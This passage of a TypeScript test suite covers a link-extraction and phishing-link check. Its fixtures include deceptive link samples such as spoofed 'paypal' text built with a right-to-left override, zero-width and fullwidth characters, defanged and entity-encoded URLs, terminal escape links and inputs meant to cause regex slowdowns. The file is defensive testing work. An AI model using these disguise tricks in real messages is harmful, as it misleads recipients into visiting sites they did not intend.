    ['192.0.2.1 bad.example - [x] "GET /x HTTP/1.1" 200 1 "-" "curl/8.0"', "log", "http://bad.example/x"],
    ...["bad.example", "bad.example:80 0.1 MISS", "bad.example\r\n", 'web1.example host="bad.example"'].map(
      (host): [string, string, string] => [
        `192.0.2.1 - - [x] "GET /x HTTP/1.1" 200 1 "-" "curl/8.0" ${host}`,
        "log",
        "http://bad.example/x"
      ]
    ),
    ['192.0.2.1 - bad.example bad.example - [x] "GET /x HTTP/1.1" 200 1', "log", "http://bad.example/x"],
    ['192.0.2.1 - john.doe [x] "GET /x HTTP/1.1" 200 1', "log"],
    ['client.example - - [x] "GET /x HTTP/1.1" 200 1 "-" "curl/8.0"', "log"],
    [
      'id,body\n1,"<p>Hi, <img alt="""">\n<a href=""https://a.example/x"">Pay</a></p>"\n',
      "html",
      "https://a.example/x"
    ],
    [
      'id,body\n1,"<p>https://a.example/x</p>"\n2,"<a href=""https://a.example/x"">Pay</a>"\n',
      "html",
      "https://a.example/x",
      "https://a.example/x"
    ],
    ['192.0.2.1 - - [x] "GET /x HTTP/1.1" 200 1 "-" "curl/8.0" "bad.example"', "log", "http://bad.example/x"],
    ...['host="bad.example" rt=1', "{bad.example|curl}", 'host: "bad.example"'].map(
      (field): [string, string, string] => [
        `192.0.2.1 - - [x] "GET /x HTTP/1.1" 200 1, ${field}`,
        "log",
        "http://bad.example/x"
      ]
    ),
    ['192.0.2.1 - - [x] "GET http://a.example/p HTTP/1.1" 200 1 "-" "-"', "log", "http://a.example/p"],
    [
      "      3 https://trelba-mund.com/x\n      1 https://b.example/",
      "text",
      "https://trelba-mund.com/x",
      "https://b.example/"
    ],
    ...["|Form", "[/quote]", "\\n\\nThanks", "\\", "','x')"].map(
      (behind): [string, string, ...Array<string>] => [
        `See https://garden.example/album/seven${behind}`,
        "text",
        `https://garden.example/album/seven${behind.replace(/'?\)$/, "")}`,
        "https://garden.example/album/seven"
      ]
    ),
    [
      "https://a.example/?id=YWJjZA==\nhttps://c.example/\nhttps://trelba-mund.com/x\n",
      "text",
      "https://a.example/?id=YWJjZA==",
      "https://c.example/",
      "https://trelba-mund.com/x"
    ],
    [
      '<a href="https://a&#46;example/x">y</a>\nN;ENCODING=QUOTED-PRINTABLE:z\n',
      "html",
      "https://a.example/x"
    ],
    ['"x;encoding=quoted-printable:", `x;encoding=quoted-printable:`\n', "text"],
    // Quoted-printable, which `linksInMail` decodes.
    ["<p>Hi</p><a href=3D=22https://a.example/x=22>y</a>", "mail", "https://a.example/x=22"],
    [
      "https://trelba-mund.com/x\rhttps://b.example/y\r",
      "text",
      "https://trelba-mund.com/x",
      "https://b.example/y"
    ]
  ])("%o", (text, kind, ...expected) => {
    assert.strictEqual(kindOf(text), kind)
    assert.deepStrictEqual(urls(text), expected)
  })
})

describe("the place of a link", () => {
  it("is its line and column", () =>
    assert.deepStrictEqual(
      linksIn("a\r\nsee https://a.example/\r\n\rhttps://b.example/ https://c.example/").map(
        ({ column, line }) => [line, column]
      ),
      [
        [2, 5],
        [4, 1],
        [4, 20]
      ]
    ))
})

describe("what a link shows", () => {
  it.each<[shown: string, target: string, expected: boolean]>([
    ["https://www.paypal.com/signin", "https://quietharbour.example/y", true],
    ["paypal.com", "https://www.paypal.com/x", false],
    ["www.bank.co.uk", "https://evil.co.uk/", true],
    ["www.bank.co.uk", "https://login.bank.co.uk/", false],
    ["\u202emoc.lapyap.www", "https://quietharbour.example/y", true],
    ["www.pay\u200bpal.com", "https://quietharbour.example/y", true],
    ["ｗｗｗ．ｐａｙｐａｌ．ｃｏｍ", "https://quietharbour.example/y", true],
    ["Pay now", "https://quietharbour.example/y", false],
    ["", "https://quietharbour.example/y", false],
    ["https://quietharbour.example/y", "https://quietharbour.example/y", false]
  ])("%o for %o", (shown, target, expected) => assert.strictEqual(showsOtherSite(shown, target), expected))
})

describe("hostile texts", () => {
  /** CPU time, some 20 ms on a quiet machine. */
  const MAX_MS = 300

  it.each([
    `<a ${"a".repeat(60_000)}>`,
    `<a b${" ".repeat(60_000)}>`,
    `<meta http-equiv="refresh" content="x${" ".repeat(60_000)}y">`,
    `<meta ${"content=https://a.example ".repeat(9000)}>`
  ])("of one long tag take linear time", async (html) => {
    assert.isBelow(await leastCpuMs(MAX_MS, () => linksIn(html, "html")), MAX_MS)
  })

  const LENGTH = 40_000

  it.each([
    ..."<,\",',[,(,{,a.,=,/,<a ,<a href=\",<a href=',https:,https://,https://a.example\n,http:/,](,[x](,<https://a\n,a [.] ,&#,&#x,.,-,_ ,> ,\\,x@,%,=\n,\t,;".split(
      ","
    ),
    '<a href="https://a.example">',
    "<!--",
    "\n",
    "https://a.example/-\n",
    "https://a.example/x-\nb/",
    "](https://a.example/",
    '{"a\\"',
    '\\"',
    '{"a":"',
    '"GET /x HTTP/1.1" ',
    "From: a\nTo: b\n",
    " ",
    "a.example ",
    "，",
    "x'den ",
    "https://a.example에서",
    "https:a)@b(",
    "(1)a",
    "www.a.example/-\n",
    ...[
      "<?xml ",
      ",a",
      ",2026",
      ";abc",
      "{{",
      "x[",
      "x[a]",
      "&#46;",
      "&amp;a.example",
      "هناa.",
      "url:a.",
      "www. a. ",
      "a-b dot "
    ],
    ...[
      "address=/a/",
      "ldap://a.",
      "a.example,",
      "http://a.example|",
      "\\x68",
      "h–",
      "].[a",
      "-dot-com",
      "1-dot-",
      "](",
      "://",
      "a://b.c ",
      "\\nhttps://a.",
      "<a.a",
      "<www.",
      "[ . ]a",
      "-a.com.Reply",
      "a-b.com!"
    ],
    "<![CDATA[",
    "<a srcdoc=",
    'location="',
    "{a.b|",
    "x?y='+",
    "a.b\\u0026",
    "https://a.b/\\_",
    "https%3A%2F%2Fa.b%20",
    "<a href=https://a.b>c.d/e ",
    '"host":"a.b","uri":"/x",',
    "host=a.b path=/x ",
    '{"',
    "[{",
    '{"{\\"{\\\\\\"',
    "#fields:\thost uri\na.b /x\n",
    "GET /x HTTP/1.1\nA: b\n",
    '"\\u00c3\\u00bc.b',
    "<?php ",
    'href=\\"a.b'
  ])("of %o take linear time", async (piece) => {
    const text = piece.repeat(LENGTH / piece.length)
    for (const kind of ["text", "html", "csv", "json", "log"] as const)
      assert.isBelow(await leastCpuMs(MAX_MS, () => linksIn(text, kind)), MAX_MS, kind)
    kindOf(text)
  })

  it("of JSON in strings of JSON take linear time", async () => {
    const quotes = Array.from({ length: 500 }, (_, at) => `{\\${"u005c".repeat(at)}u0022`)
    const text = `"${quotes.join("")}https://a.example/x`
    assert.isBelow(await leastCpuMs(MAX_MS, () => linksIn(text, "json")), MAX_MS)
    assert.include(
      linksIn(text, "json").map(({ url }) => url),
      "https://a.example/x"
    )
  })

  it("of quote marks that no link follows take linear time", async () => {
    const text = `https://a.example/x-\n${">  ".repeat(25)}"`
    assert.isBelow(await leastCpuMs(MAX_MS, () => linksIn(text)), MAX_MS)
  })

  it("may be one word of 10 MB", () => {
    for (const character of ["…", "😀"])
      assert.deepStrictEqual(urls(`https://a.example/ ${character.repeat(10_000_000 / character.length)}`), [
        "https://a.example/"
      ])
  })

  // More than V8 takes as arguments of one call. Each takes a second or two.
  const manyLinks = ["text", "csv", ...(isNightly ? (["html", "json", "log"] as const) : [])] as const
  it.each(manyLinks)("of %s may have 150,000 links", (kind) => {
    assert.lengthOf(linksIn("https://a.example/x ".repeat(150_000), kind), 150_000)
  })

  it("of json may have a string of ten million letters", () => {
    assert.lengthOf(linksIn(`{"a":"${"A".repeat(10_000_000)}","b":"https://a.example/x"}`, "json"), 1)
  })
})

describe("what a program would open", () => {
  it.each<[name: string, kind: "text" | "html" | "json" | "log", text: string, urls: ReadonlyArray<string>]>([
    ["JSON that is cut", "json", '{"a":"https://evil.example/x', ["https://evil.example/x"]],
    ["a line after JSON", "json", '{"a":1}\nSee https://evil.example/x', ["https://evil.example/x"]],
    [
      "a message about a log",
      "log",
      'Look:\n"GET / HTTP/1.1" 200\nand evil.example/a or hxxp[:]//evil[.]example/b',
      ["evil.example/a", "hxxp[:]//evil[.]example/b"]
    ],
    [
      "a tab as entity",
      "html",
      '<a href="ht&Tab;tps:&bsol;&bsol;evil.example/x">a</a>',
      ["https:\\\\evil.example/x"]
    ],
    [
      "a control character before a link",
      "html",
      '<a href="\u0001https://evil.example/x">a</a>',
      ["https://evil.example/x"]
    ],
    [
      "a quote that is never closed",
      "html",
      '<a href="https://evil.example/x>a</a>',
      ["https://evil.example/x"]
    ],
    [
      "a bracket in a user name",
      "text",
      "see https://good.example)x@evil.example/a or (https://other.example)",
      ["https://good.example", "https://good.example)x@evil.example/a", "https://other.example"]
    ],
    ["colours of a terminal", "text", "\u001b[31mevil.example/y\u001b[0m", ["evil.example/y"]],
    [
      "a link of a terminal",
      "text",
      "\u001b]8;;https://evil.example/x\u001b\\here\u001b]8;;\u001b\\",
      ["https://evil.example/x"]
    ],
    [
      "Arabic marks",
      "text",
      "اضغط https://evil.example/x، ثم other.example؟",
      ["https://evil.example/x", "other.example"]
    ],
    [
      "a Chinese sentence",
      "text",
      "请点击https://evil.example/x立即登录。或访问other.example，谢谢",
      ["https://evil.example/x立即登录。或访问other.example", "https://evil.example/x", "other.example"]
    ],
    ["a Thai word", "text", "กดที่นี่evil.example/x", ["กดที่นี่evil.example/x", "evil.example/x"]]
  ])("in %s is found", (_, kind, text, urls) =>
    assert.deepStrictEqual(
      linksIn(text, kind).map(({ url }) => url),
      urls
    )
  )
})

it.each(["title", "style", "script"])("hides nothing behind a <%s> that never ends", (name) => {
  const links = linksIn(`Use <br> or <${name}> or <b id=x> and see https://bad.example/x`)
  assert.deepStrictEqual(
    links.map(({ url }) => url),
    ["https://bad.example/x"]
  )
})
